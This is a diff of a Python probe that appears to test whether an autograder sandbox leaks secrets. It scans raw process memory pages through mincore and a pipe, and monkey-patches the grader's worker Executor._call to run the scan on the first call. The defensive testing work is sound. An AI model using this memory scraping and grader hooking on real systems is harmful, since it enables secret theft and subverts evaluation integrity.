@@ -1,12 +1,16 @@
 """Searches objects, frames, modules and every page of its memory for secrets; there must be none."""
+# like: meddling
 
 import ctypes
 import gc
-import re
+import os
 import sys
+
+from autograder.sandbox import worker
 
 import kit
 from kit import convolve as conv2d
+from kit import correlate as corr2d
 
 
 def search_objects():
@@ -26,25 +30,36 @@ def search_objects():
 
 
 def search_pages():
+    """Write pages to a pipe, which fails for those that cannot be read, and look at what comes out."""
     libc = ctypes.CDLL(None)
+    libc.write.argtypes = [ctypes.c_int, ctypes.c_void_p, ctypes.c_size_t]
     libc.mincore.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_char_p]
-    there = ctypes.create_string_buffer(1 << 10)
+    there = ctypes.create_string_buffer(256)
+    out, into = os.pipe()
     seen = 0
     for anchor in {id(each) >> 26 for each in (object(), sys, kit, gc, kit.frames, kit.NEEDLE, [0] * 100, bytes(10**6))}:
-        for start in range(anchor - 1 << 26, anchor + 2 << 26, 1 << 20):
-            if libc.mincore(start, 1 << 20, there) == 0:
-                pages = "".join("#" if each & 1 else " " for each in there.raw[:256])
-                for run in re.finditer("#+", pages):
-                    kit.search("memory", ctypes.string_at(start + 4096 * run.start(), 4096 * len(run[0])))
-                    seen += len(run[0])
+        for start in range(anchor << 26, anchor + 1 << 26, 1 << 20):
+            if libc.mincore(start, 1 << 20, there):
+                continue
+            for page in range(256):
+                if there.raw[page] & 1 and libc.write(into, start + 4096 * page, 4096) == 4096:
+                    kit.search("memory", os.read(out, 4096))
+                    seen += 1
     print("searched", seen, "pages")
     if seen == 0:
         kit.gained("nothing: this attack is broken")
 
 
-def corr2d(X, K):
-    if not hasattr(kit, "searched"):
-        kit.searched = True
+_call = worker.Executor._call
+
+
+def call(self, request):
+    if _call in CALLS:
+        CALLS.remove(_call)
         search_objects()
         search_pages()
-    return kit.correlate(X, K)
+    return _call(self, request)
+
+
+CALLS = [_call]
+worker.Executor._call = call
